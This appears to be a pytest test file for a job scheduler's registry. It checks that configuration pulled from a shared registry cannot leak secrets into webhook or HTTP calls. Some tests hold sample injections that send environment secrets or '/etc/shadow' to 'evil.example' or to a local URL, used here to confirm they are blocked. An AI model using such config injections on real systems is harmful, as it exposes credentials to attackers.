"""Trust: the registry's settings hold, and have no secret sent anywhere that our own code does not name."""

import pytest

from shardwright import JobConfig, Scheduler, elasticjob
from shardwright.registry import Put
from shardwright.runtime.job import trusted
from shardwright.testing import Cluster

HOOK = {"webhook.url": "https://example.com/", "webhook.token": "${env:OURS}"}


def config(**props: str) -> JobConfig:
    return JobConfig.of({"name": "job", "error_handler": "WEBHOOK", "props": {**HOOK, **props}})


def test_what_our_own_settings_refer_to_is_looked_up() -> None:
    assert trusted(config(), config()) == config()
    assert trusted(config(more="x ${env:OURS} y"), config()).props["more"] == "x ${env:OURS} y"


@pytest.mark.parametrize("reference", ["${env:AWS_SECRET}", "${file:/etc/shadow}", "a${env:OURS}${env:B}"])
def test_what_only_the_registry_refers_to_is_not(reference: str, caplog: pytest.LogCaptureFixture) -> None:
    held = trusted(config(**{"webhook.url": f"https://evil.example/{reference}"}), config())
    assert "${" not in held.props["webhook.url"].replace("${env:OURS}", "")
    assert "refer to secrets that this program's own do not" in caplog.text


def test_of_a_strangers_job_nothing_is_looked_up() -> None:
    assert "${" not in trusted(config(), None).props["webhook.token"]


def test_a_call_that_somebody_rewrote_in_the_registry_has_no_secret_in_it(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setenv("DATABASE_PASSWORD", "s3cret-canary")
    scheduler = Scheduler("memory://")
    scheduler.http("job", "http://127.0.0.1:9/", cron="10 * * * * ?", time_zone="UTC")
    cluster = Cluster()
    replica = cluster.start(scheduler)
    node = f"{replica.registry.namespace}/job/config"
    evil = scheduler.jobs[0].config.replace(
        props={"http.uri": "http://127.0.0.1:9/${env:DATABASE_PASSWORD}", "http.method": "GET"}
    )
    replica.registry.commit(Put(node, elasticjob.write_config(evil)))
    cluster.advance(seconds=15)
    assert "refer to secrets" in caplog.text
    assert "s3cret-canary" not in caplog.text
